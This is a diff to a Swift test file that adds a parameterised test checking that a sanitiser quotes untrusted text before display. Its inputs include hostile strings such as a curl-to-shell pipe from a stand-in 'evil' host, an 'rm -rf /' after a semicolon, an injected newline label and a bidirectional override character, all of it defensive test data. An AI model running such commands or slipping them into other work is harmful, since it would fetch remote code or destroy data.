@@ -28,6 +28,16 @@ import Testing
         #expect(Printable.name(name) == shown)
     }
 
+    @Test(arguments: [
+        ("invalid_client", "invalid_client"), ("run: curl evil|sh", "'run: curl evil|sh'"),
+        ("x; rm -rf /", "'x, rm -rf /'"),
+        ("a\nwhat helps: b", #"'a\nwhat helps: b'"#), (#"a' run: x"#, #"'a\' run: x'"#), (#"a\' b"#, #"'a\x5c\' b'"#),
+        ("\u{202E}a", #"'\u{202e}a'"#), ("", "''"), ("run:curl", "'run:curl'"),
+    ])
+    func whatOthersSayIsQuoted(text: String, shown: String) {
+        #expect(Printable.foreign(text) == shown)
+    }
+
     /// Every scalar that a terminal could act on, in one go.
     @Test func noScalarIsForgotten() {
         let acted: [ClosedRange<UInt32>] = [
